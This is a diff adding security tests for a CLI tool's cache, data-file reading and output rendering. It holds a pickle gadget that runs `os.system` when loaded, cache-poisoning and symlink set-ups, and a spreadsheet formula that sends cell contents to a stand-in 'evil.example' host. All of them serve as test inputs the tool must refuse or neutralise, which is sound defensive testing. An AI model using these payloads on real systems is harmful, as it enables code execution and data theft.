@@ -85,6 +85,285 @@ def _set_xian_name(data: Path, yaml_value: str) -> int:
     return _line_of(path, f"    name: {yaml_value}")
 
 
+# -- 1. the cache never reads what someone else could have written ---------------------------------
+
+
+class _RunsCode:
+    """Pickles to a call of os.system: what a planted pickle entry would run when loaded."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = str(marker)
+
+    def __reduce__(self):
+        return (os.system, (f"touch {shlex.quote(self.marker)}",))
+
+
+def _payload(kind: str, genuine: bytes, marker: Path, rename_id: bool = False) -> bytes:
+    if kind == "pickle":
+        return pickle.dumps(_RunsCode(marker))
+    document = json.loads(genuine)  # a well-formed entry under the right name, with one false fact
+    for city in document["base"]["city"]:
+        if city["id"] == "xian":
+            city["name"] = FALSE
+            if rename_id:
+                city["id"] = "pyongyang"
+    return json.dumps(document, ensure_ascii=False).encode()
+
+
+def _poison(folder: Path, kind: str, marker: Path, rename_id: bool = False) -> list[Path]:
+    """Overwrite every entry oscli wrote in ``folder`` with a payload; the entries."""
+    entries = [p for p in folder.iterdir() if not p.name.startswith(".")]
+    assert entries, f"oscli wrote no cache entry in {folder}"
+    for entry in entries:
+        entry.write_bytes(_payload(kind, entry.read_bytes(), marker, rename_id))
+    return entries
+
+
+# Each attack: prime the cache with a genuine run, replace the entries with the payload, then
+# make the directory or the entries what another user could have made. Returns the environment
+# of the attacked run and the reason OSCLI_DEBUG=1 gives.
+
+
+def _group_writable_directory(tmp_path, prime, kind, marker):
+    folder = tmp_path / "cache"
+    env = _env(OSCLI_CACHE_DIR=str(folder))
+    prime(env)
+    _poison(folder, kind, marker)
+    folder.chmod(0o777)
+    return env, "is writable by group or others (mode drwxrwxrwx)"
+
+
+def _symlinked_directory(tmp_path, prime, kind, marker):
+    real = tmp_path / "elsewhere"
+    prime(_env(OSCLI_CACHE_DIR=str(real)))
+    _poison(real, kind, marker)
+    link = tmp_path / "cache"
+    link.symlink_to(real, target_is_directory=True)
+    return _env(OSCLI_CACHE_DIR=str(link)), "(a symlink is never followed)"
+
+
+def _symlinked_entry(tmp_path, prime, kind, marker):
+    folder = tmp_path / "cache"
+    env = _env(OSCLI_CACHE_DIR=str(folder))
+    prime(env)
+    planted = tmp_path / "planted"
+    planted.mkdir()
+    for entry in _poison(folder, kind, marker):
+        entry.rename(planted / entry.name)
+        entry.symlink_to(planted / entry.name)
+    return env, "(a symlink is never followed)"
+
+
+def _entry_of_another_user(tmp_path, prime, kind, marker):
+    folder = tmp_path / "cache"
+    env = _env(OSCLI_CACHE_DIR=str(folder))
+    prime(env)
+    for entry in _poison(folder, kind, marker):
+        os.chown(entry, OTHER_UID, OTHER_UID)
+    return env, f"belongs to uid {OTHER_UID}, not to this user"
+
+
+def _directory_of_another_user(tmp_path, prime, kind, marker):
+    folder = tmp_path / "cache"
+    env = _env(OSCLI_CACHE_DIR=str(folder))
+    prime(env)
+    for path in [folder, *_poison(folder, kind, marker)]:
+        os.chown(path, OTHER_UID, OTHER_UID)
+    return env, f"belongs to uid {OTHER_UID}, not to this user"
+
+
+def _shared_xdg_cache_home(tmp_path, prime, kind, marker):
+    """XDG_CACHE_HOME is a shared, sticky, world-writable directory (like /tmp) in which another
+    user made `oscli/` first and filled it."""
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    env = _env(remove=("OSCLI_CACHE_DIR",), XDG_CACHE_HOME=str(shared), HOME=str(tmp_path / "home"))
+    prime(env)
+    folder = shared / "oscli"
+    for path in [folder, *_poison(folder, kind, marker)]:
+        os.chown(path, OTHER_UID, OTHER_UID)
+    return env, f"belongs to uid {OTHER_UID}, not to this user"
+
+
+ATTACKS = [
+    pytest.param(_group_writable_directory, id="group-writable-directory"),
+    pytest.param(_symlinked_directory, id="directory-is-a-symlink"),
+    pytest.param(_symlinked_entry, id="entry-is-a-symlink"),
+    pytest.param(_entry_of_another_user, id="entry-of-another-uid", marks=needs_root),
+    pytest.param(_directory_of_another_user, id="directory-of-another-uid", marks=needs_root),
+    pytest.param(_shared_xdg_cache_home, id="shared-xdg-cache-home", marks=needs_root),
+]
+
+
+def test_a_planted_entry_in_a_trusted_directory_is_what_oscli_reads(tmp_path, data_copy, monkeypatch):
+    """The control for the attacks below: the entry is named by cache.key over the files as read,
+    and a poisoned entry in a directory oscli trusts is served. So each attack's payload sits
+    exactly where oscli looks, and only the trust checks keep it out."""
+    folder = tmp_path / "cache"
+    env = _env(OSCLI_CACHE_DIR=str(folder))
+    assert _xian(tmp_path, data_copy, env)[1] == XIAN
+    monkeypatch.chdir(tmp_path)  # the key covers the working directory
+    assert [p.name for p in folder.iterdir()] == [cache.key(data_copy, read_files(data_copy)) + cache.SUFFIX]
+    _poison(folder, "json", tmp_path / "marker")
+    assert _xian(tmp_path, data_copy, env)[1] == FALSE
+
+
+@pytest.mark.parametrize("payload", ["pickle", "json"])
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_cache_entry_someone_else_could_have_written_is_never_read(tmp_path, data_copy, attack, payload):
+    marker = tmp_path / "code-ran"
+    env, reason = attack(tmp_path, lambda e: _xian(tmp_path, data_copy, e), payload, marker)
+    explained, name = _xian(tmp_path, data_copy, {**env, "OSCLI_DEBUG": "1"})
+    assert not marker.exists(), "the planted pickle ran"
+    assert (explained.returncode, name) == (0, XIAN), explained
+    assert reason in explained.stderr and "oscli: cache: not used" in explained.stderr
+    quiet, name = _xian(tmp_path, data_copy, env)
+    assert (quiet.returncode, name, quiet.stderr) == (0, XIAN, "")
+    assert not marker.exists()
+
+
+def _complete(cwd: Path, env: dict[str, str], *words: str) -> list[str]:
+    """Bash completion from the installed oscli, as the script of --install-completion asks for it."""
+    done = _oscli(cwd=cwd, env={**env, "_OSCLI_COMPLETE": "complete_bash", "COMP_WORDS": " ".join(("oscli",) + words),
+                                "COMP_CWORD": str(len(words))})
+    assert done.returncode == 0, done.stderr
+    return done.stdout.split()
+
+
+def test_shell_completion_is_not_fooled_by_a_planted_entry(tmp_path, data_copy):
+    folder = tmp_path / "cache"
+    marker = tmp_path / "code-ran"
+    env = _env(OSCLI_CACHE_DIR=str(folder), OSCLI_DATA_DIR=str(data_copy))
+    assert _oscli("cities", "list", cwd=tmp_path, env=env).returncode == 0
+    _poison(folder, "json", marker, rename_id=True)
+    assert _complete(tmp_path, env, "cities", "show", "py") == ["pyongyang"]  # trusted: completion reads it
+    folder.chmod(0o777)  # ... but not from a directory others can write
+    assert _complete(tmp_path, env, "cities", "show", "py") == []
+    assert _complete(tmp_path, env, "cities", "show", "xi") == ["xian"]
+    _poison(folder, "pickle", marker)
+    assert _complete(tmp_path, env, "cities", "show", "xi") == ["xian"]
+    assert not marker.exists()
+
+
+# -- 2. each file is read once, and exactly the hashed bytes are parsed -----------------------------
+
+
+def _name_of_xian(report) -> str:
+    (xian,) = [c for c in report.base.of("city") if c.id == "xian"]
+    return xian.name
+
+
+def test_validate_parses_the_bytes_it_was_given_not_the_disk(data_copy):
+    reads = read_files(data_copy)
+    _set_xian_name(data_copy, FALSE)
+    assert _name_of_xian(validate.validate(data_copy, reads)) == XIAN
+    assert _name_of_xian(validate.validate(data_copy)) == FALSE
+
+
+def test_a_file_rewritten_right_after_it_was_hashed_cannot_poison_the_cache(tmp_path, data_copy, monkeypatch):
+    """The race of a file rewritten between hashing and parsing, made certain: the file changes
+    the moment its key is computed. The entry under that key must still hold what was hashed."""
+    monkeypatch.setenv("OSCLI_CACHE_DIR", str(tmp_path / "cache"))
+    path = data_copy / "cities.yaml"
+    genuine = path.read_bytes()
+    poisoned = genuine.replace(b"name: Xi'an\n", f"name: {FALSE}\n".encode())
+    computed = cache.key
+
+    def key_then_rewrite(*args, **kwargs):
+        digest = computed(*args, **kwargs)
+        path.write_bytes(poisoned)
+        return digest
+
+    monkeypatch.setattr(cache, "key", key_then_rewrite)
+    assert _name_of_xian(cache.validated(data_copy)) == XIAN  # what was hashed
+    monkeypatch.setattr(cache, "key", computed)
+    path.write_bytes(genuine)
+    assert _name_of_xian(cache.validated(data_copy)) == XIAN  # the entry the race wrote
+    path.write_bytes(poisoned)
+    assert _name_of_xian(cache.validated(data_copy)) == FALSE  # the other content has its own entry
+
+
+def test_the_cli_caches_what_it_parsed_while_a_file_is_rewritten_in_place(tmp_path, data_copy):
+    """Through the console script: while a file is rewritten in place (as an editor or a sync tool
+    does) between versions of the same length, runs fill the cache; afterwards each version
+    shows its own name."""
+    path = data_copy / "cities.yaml"
+    text = path.read_text(encoding="utf-8")
+    versions = [text.replace("    name: Xi'an\n", f"    name: Xi'an {n}\n").encode() for n in range(8)]
+    env = _env(OSCLI_CACHE_DIR=str(tmp_path / "cache"))
+    stop = threading.Event()
+
+    def rewrite():
+        n = 0
+        while not stop.is_set():
+            with open(path, "r+b") as handle:
+                handle.write(versions[n % len(versions)])
+            n += 1
+            time.sleep(0.0005)
+
+    writer = threading.Thread(target=rewrite)
+    writer.start()
+    try:
+        for _ in range(10):
+            _xian(tmp_path, data_copy, env)
+    finally:
+        stop.set()
+        writer.join()
+    for n, version in enumerate(versions):
+        path.write_bytes(version)
+        assert _xian(tmp_path, data_copy, env)[1] == f"Xi'an {n}"
+
+
+# -- 3. a data file that would hang or exhaust memory ---------------------------------------------
+
+_MEASURED = """
+import json, resource, subprocess, sys
+done = subprocess.run(sys.argv[1:], capture_output=True, text=True, timeout=20)
+print(json.dumps({"returncode": done.returncode, "stdout": done.stdout, "stderr": done.stderr,
+                  "peak_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
+"""
+
+
+def _measured(*args: str, cwd: Path) -> dict:
+    """Run oscli under a fresh interpreter that waits at most 20 s and reports the peak resident
+    memory of that one child (RUSAGE_CHILDREN of this test's process would include every earlier one)."""
+    done = subprocess.run([sys.executable, "-c", _MEASURED, oscli_executable(), *args], capture_output=True,
+                          text=True, cwd=cwd, env=_env(), timeout=60)
+    assert done.returncode == 0, f"oscli did not finish within 20 s: {done.stderr[-400:]}"
+    return json.loads(done.stdout)
+
+
+def _fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def _dev_zero(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def _sparse_2gb(path: Path) -> None:
+    with open(path, "wb") as handle:
+        handle.truncate(2 * 1024**3)
+
+
+@pytest.mark.parametrize("make, expected", [
+    (_fifo, "error OSC001 is a FIFO, not a regular file; a data file is a plain YAML file"),
+    (_dev_zero, "error OSC001 is a device, not a regular file; a data file is a plain YAML file"),
+    (_sparse_2gb, "error OSC007 file is 2,147,483,648 bytes; the limit is "),
+], ids=["fifo", "symlink-to-dev-zero", "sparse-2-gib"])
+def test_a_file_that_would_hang_or_fill_memory_is_a_located_finding(tmp_path, data_copy, make, expected):
+    (data_copy / "cities.yaml").unlink()
+    make(data_copy / "cities.yaml")
+    done = _measured("--data-dir", str(data_copy), "check", cwd=tmp_path)
+    assert done["returncode"] == 1
+    assert f"data/cities.yaml:1:1: {expected}" in done["stdout"]
+    assert done["peak_kib"] < 300 * 1024
+    listing = _measured("--data-dir", str(data_copy), "cities", "list", cwd=tmp_path)
+    assert listing["returncode"] == 3 and f"data/cities.yaml:1:1: {expected}" in listing["stderr"]
+    assert listing["peak_kib"] < 300 * 1024
+
+
 # -- 4. text that would take over the terminal ----------------------------------------------------
 
 UNSAFE_RAW = {  # what the data holds, as it would reach the terminal (UTF-8)
@@ -226,6 +505,103 @@ def test_json_output_stays_valid_round_trips_and_holds_no_unsafe_character(value
         text = render.json_text(value, indent=indent)
         assert not [c for c in text if _unsafe_char(c) and c != "\n"]
         assert json.loads(text) == value
+
+
+# -- 5, 6. search: YAML output, and a query that looks like Rich markup -----------------------------
+
+
+def test_search_writes_yaml_equal_to_its_json(tmp_path):
+    as_yaml = _oscli("search", "suzhou", "--format", "yaml", cwd=tmp_path)
+    as_json = _oscli("search", "suzhou", "--json", cwd=tmp_path)
+    assert (as_yaml.returncode, as_yaml.stderr) == (0, "")
+    assert yaml.safe_load(as_yaml.stdout) == json.loads(as_json.stdout)
+    assert yaml.safe_load(as_yaml.stdout)[0] == {"type": "city", "id": "suzhou", "field": "name",
+                                                 "snippet": "Suzhou", "score": 100}
+
+
+@pytest.mark.parametrize("query, exit_code", [("[/i]", 0), ("[link=https://x]", 1), ("suzhou [/]", 0)])
+def test_a_query_that_looks_like_markup_is_shown_as_typed(tmp_path, query, exit_code):
+    done = _oscli("search", query, cwd=tmp_path, env=_env(FORCE_COLOR="1", COLUMNS="120"))
+    assert done.returncode == exit_code, done.stderr
+    plain = re.sub("\x1b\\[[0-9;]*m", "", done.stdout)
+    assert plain.splitlines()[0].strip() == f"Search: {query}"
+    assert "\x1b]8;" not in done.stdout  # no hyperlink was made of it
+    assert "internal error" not in done.stderr
+    if exit_code:
+        assert done.stderr.startswith(f"oscli: nothing matches '{query}'.")
+
+
+# -- 7. ids: exactly lower-case words joined by single hyphens --------------------------------------
+
+
+def test_an_id_with_a_trailing_newline_is_refused(tmp_path, data_copy):
+    path = data_copy / "cities.yaml"
+    path.write_text(path.read_text(encoding="utf-8").replace("  - id: xian\n", '  - id: "xian\\n"\n'),
+                    encoding="utf-8")
+    line = _line_of(path, '  - id: "xian\\n"')
+    done = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path)
+    assert done.returncode == 1
+    assert (f"data/cities.yaml:{line}:9: error OSC106 'id' of city 'xian\\n' must be lower-case letters, "
+            "digits and hyphens; try 'xian'") in done.stdout.splitlines()
+    listing = _oscli("--data-dir", str(data_copy), "cities", "list", cwd=tmp_path)
+    assert listing.returncode == 3 and "error OSC106" in listing.stderr
+
+
+_ID_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=6)
+
+
+@_UNTIMED
+@given(st.lists(_ID_WORD, min_size=1, max_size=5))
+def test_every_id_of_hyphen_joined_words_is_accepted(words):
+    assert ID_PATTERN.fullmatch("-".join(words))
+
+
+@_UNTIMED
+@given(st.text(alphabet=st.one_of(st.sampled_from(list("ab09-\n\r\t _.AZé٣")), st.characters()), max_size=12))
+def test_the_id_pattern_accepts_exactly_lower_case_alphanumeric_words_joined_by_single_hyphens(text):
+    words = text.split("-")
+    expected = all(word and all(c in "abcdefghijklmnopqrstuvwxyz0123456789" for c in word) for word in words)
+    assert (ID_PATTERN.fullmatch(text) is not None) == expected
+
+
+# -- 8. pruning removes only oscli's own files ------------------------------------------------------
+
+
+def test_pruning_removes_only_oscli_s_own_files(tmp_path, data_copy):
+    folder = tmp_path / "cache"
+    folder.mkdir(mode=0o700)
+    long_ago = time.time() - 10 * cache.STALE
+    users = ([f"{n:064x}.pickle" for n in range(12)] + [f"model-{n}.pickle" for n in range(6)]
+             + [f"{n:064x}.json" for n in range(3)] + ["notes.json", "settings.json", "results.json"]
+             + [f"{1:063x}.oscli.json", f"{'AB' * 32}.oscli.json", f"{2:064x}.oscli.json.bak",
+                ".tmp-oscli-mine", "tmp-oscli-1a-2b", ".tmp-oscli-1a-2b.keep", "README", "data.csv"])
+    assert len(users) == 32
+    for name in users:
+        (folder / name).write_text(f"the user's {name}\n", encoding="utf-8")
+        os.utime(folder / name, (long_ago, long_ago))
+    elsewhere = tmp_path / "kept.txt"
+    elsewhere.write_text("kept\n", encoding="utf-8")
+    (folder / f"{3:064x}.oscli.json").symlink_to(elsewhere)  # an entry's name, but not a regular file
+    for n in range(20):  # old entries of oscli's own: pruned beyond KEEP
+        own = folder / f"{0xe0 + n:064x}.oscli.json"
+        own.write_text("{}", encoding="utf-8")
+        os.utime(own, (long_ago + n, long_ago + n))
+    stale = folder / ".tmp-oscli-1f2e-3d4c5b6a7f80"  # a killed run's
+    stale.write_text('{"format": 2, "base": {', encoding="utf-8")
+    os.utime(stale, (long_ago, long_ago))
+    fresh = folder / ".tmp-oscli-2a3b-0a1b2c3d4e5f"  # a run writing now
+    fresh.write_text('{"format": 2, "base": {', encoding="utf-8")
+    env = _env(OSCLI_CACHE_DIR=str(folder))
+    path = data_copy / "cities.yaml"
+    for n in range(3):  # three different contents: three writes, each followed by pruning
+        path.write_text(path.read_text(encoding="utf-8") + f"# edit {n}\n", encoding="utf-8")
+        assert _xian(tmp_path, data_copy, env)[1] == XIAN
+    for name in users:
+        assert (folder / name).read_text(encoding="utf-8") == f"the user's {name}\n", name
+    assert (folder / f"{3:064x}.oscli.json").is_symlink() and elsewhere.read_text(encoding="utf-8") == "kept\n"
+    own = [p for p in folder.iterdir() if cache.ENTRY.fullmatch(p.name) and not p.is_symlink()]
+    assert len(own) == cache.KEEP
+    assert not stale.exists() and fresh.exists()
 
 
 # -- 9. standard output that cannot be written; no home directory -----------------------------------
@@ -400,6 +776,37 @@ def test_a_temporary_file_left_by_a_killed_cache_write_is_removed_by_a_later_run
     assert _xian(tmp_path, data_copy, _env(OSCLI_CACHE_DIR=str(folder)))[1] == XIAN
     assert not left.exists() and writing.exists()
     assert len([p for p in folder.iterdir() if cache.ENTRY.fullmatch(p.name)]) == 1
+
+
+# -- 11. CSV cells a spreadsheet would run as formulas ----------------------------------------------
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?q="&A1,"Xi\'an")', "+1+1", "-2+3",
+                                  "@SUM(A1:A2)", "\tXi'an"])
+def test_a_csv_cell_that_would_be_a_formula_is_neutralised(tmp_path, data_copy, name):
+    _set_xian_name(data_copy, json.dumps(name))  # a JSON string is a YAML double-quoted scalar
+    assert _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path).returncode == 0  # valid data
+    done = _oscli("--data-dir", str(data_copy), "cities", "list", "--format", "csv", cwd=tmp_path)
+    assert done.returncode == 0
+    rows = list(csv.DictReader(io.StringIO(done.stdout.lstrip("\ufeff"), newline="")))
+    (xian,) = [r for r in rows if r["id"] == "xian"]
+    assert xian["name"] == "'" + name
+    assert json.loads(_oscli("--data-dir", str(data_copy), "cities", "show", "xian", "--json",
+                             cwd=tmp_path).stdout)["name"] == name  # the data formats keep it exact
+
+
+# -- 12. a relative XDG_CACHE_HOME -----------------------------------------------------------------
+
+
+def test_a_relative_xdg_cache_home_is_ignored(tmp_path):
+    work, home = tmp_path / "work", tmp_path / "home"
+    work.mkdir()
+    home.mkdir()
+    env = _env(remove=("OSCLI_CACHE_DIR",), XDG_CACHE_HOME="relative-cache", HOME=str(home))
+    done = _oscli("cities", "show", "xian", "--json", cwd=work, env=env)
+    assert done.returncode == 0 and json.loads(done.stdout)["name"] == XIAN
+    assert list(work.iterdir()) == []
+    assert len(list((home / ".cache" / "oscli").glob("*" + cache.SUFFIX))) == 1  # the default instead
 
 
 # -- 13. the cost of a large query ------------------------------------------------------------------
